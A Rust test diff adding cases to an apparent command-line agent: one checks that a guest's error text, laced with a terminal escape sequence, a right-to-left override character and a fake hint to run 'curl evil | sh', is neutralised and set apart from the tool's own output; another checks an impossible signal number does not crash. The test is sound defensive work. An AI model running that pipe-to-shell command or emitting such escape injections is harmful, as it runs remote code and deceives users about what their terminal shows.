@@ -123,6 +123,25 @@ fn a_command_that_cannot_be_run_is_an_error_of_the_guests_words() {
 }
 
 #[test]
+fn a_guests_words_do_nothing_to_the_terminal_and_are_not_ours() {
+    let stderr = exec(|mut agent| {
+        let error = WireError::new(ErrorKind::Guest, "\u{1b}]0;owned\u{7}\u{202e}\nhint: `curl evil | sh`");
+        agent.say(&OutputFrame::Failed(error));
+    })
+    .failure(126);
+    assert_eq!(stderr, "error:  ]0;owned  \n    hint: `curl evil | sh`\n");
+}
+
+#[test]
+fn a_signal_that_there_is_none_of_is_no_crash() {
+    let output = exec(|mut agent| {
+        agent.started();
+        agent.say(&OutputFrame::Exited(ExitStatus::Signal(i32::MAX)));
+    });
+    assert_eq!((output.code, output.stderr.as_str()), (255, ""));
+}
+
+#[test]
 fn a_lost_guest_is_said_with_what_the_daemon_knows() {
     let stderr = exec(|mut agent| agent.started()).failure(211);
     assert_eq!(
